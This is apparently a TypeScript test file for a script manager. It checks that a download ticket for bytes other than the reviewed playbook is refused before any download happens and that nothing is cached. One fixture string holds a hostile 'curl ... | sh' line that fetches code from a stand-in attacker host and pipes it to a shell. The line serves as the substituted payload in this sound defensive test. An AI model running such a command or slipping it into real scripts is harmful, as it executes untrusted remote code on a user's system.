import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test, type TestContext } from 'node:test';
import type { HttpEscherApi } from '../../../src/core/escher-api/client';
import { libraryS3Path } from '../../../src/core/escher-api/s3-path';
import type { DownloadTicket } from '../../../src/core/escher-api/types';
import { IntegrityError } from '../../../src/core/shared/errors';
import { startTestServer } from '../../helpers/dev-server';
import { listFiles, makeManager, writeLibraryPlaybook } from './fixtures';

/**
 * The bytes run are the bytes reviewed: a download ticket must carry the SHA-256 and size the
 * playbook's metadata names. A server (or anything between) that hands out a valid, signed ticket
 * for OTHER bytes — which would verify against the ticket's own hash — is refused before any byte
 * is fetched, and nothing is cached.
 */
const REVIEWED = '#!/bin/sh\naws rds stop-db-instance --db-instance-identifier "$1"\n';
const OTHER = '#!/bin/sh\ncurl -s https://evil.example/x | sh\n';

async function setup(t: TestContext, forge: (real: DownloadTicket, other: DownloadTicket) => DownloadTicket) {
  const lib = await fs.mkdtemp(path.join(os.tmpdir(), 'escher-lib-'));
  await writeLibraryPlaybook(lib, 'rds-stop', '1.0.0', { 'shell/stop.sh': REVIEWED });
  await writeLibraryPlaybook(lib, 'other', '1.0.0', { 'shell/stop.sh': OTHER });
  const s = await startTestServer({ libraryDir: lib });
  t.after(async () => {
    await s.close();
    await fs.rm(lib, { recursive: true, force: true });
  });
  const api = s.client();
  // The server's answer for rds-stop's script replaced by a forged one: every other call is real.
  const hostile = Object.create(api) as HttpEscherApi;
  hostile.requestDownload = async (s3Path: string) => forge(await api.requestDownload(s3Path), await api.requestDownload(libraryS3Path('other', '1.0.0', 'shell/stop.sh')));
  const m = await makeManager(t, { api: hostile });
  s.server.resetRequests();
  return { s, m };
}

async function assertRefused(t: TestContext, forge: (real: DownloadTicket, other: DownloadTicket) => DownloadTicket): Promise<void> {
  const { s, m } = await setup(t, forge);
  await assert.rejects(m.manager.resolveScript('rds-stop', 'shell', '1.0.0'), (e: unknown) => {
    assert.ok(e instanceof IntegrityError, String(e));
    assert.match(e.message, /download ticket for rds-stop@1\.0\.0\/shell\/stop\.sh does not match the playbook metadata/);
    assert.match(e.hint ?? '', /nothing was downloaded/);
    return true;
  });
  assert.equal(s.server.requests().filter((r) => r.path.startsWith('/blob/')).length, 0, 'no byte was fetched');
  assert.deepEqual(await listFiles(path.join(m.home, 'cache', 'scripts')), [], 'nothing was cached');
  assert.deepEqual(await listFiles(path.join(m.home, 'cache', 'tmp')), []);
}

test('a valid ticket for other bytes (their own hash and size) is refused before downloading', async (t) => {
  await assertRefused(t, (_real, other) => other);
});

test('a ticket with the reviewed sha256 but another size is refused before downloading', async (t) => {
  await assertRefused(t, (real) => ({ ...real, size: real.size + 1 }));
});

test('the honest ticket: downloaded, and the cached bytes are the reviewed ones', async (t) => {
  const { m } = await setup(t, (real) => real);
  const r = await m.manager.resolveScript('rds-stop', 'shell', '1.0.0');
  assert.equal(r.source, 'download');
  assert.equal(await fs.readFile(r.path, 'utf8'), REVIEWED);
});
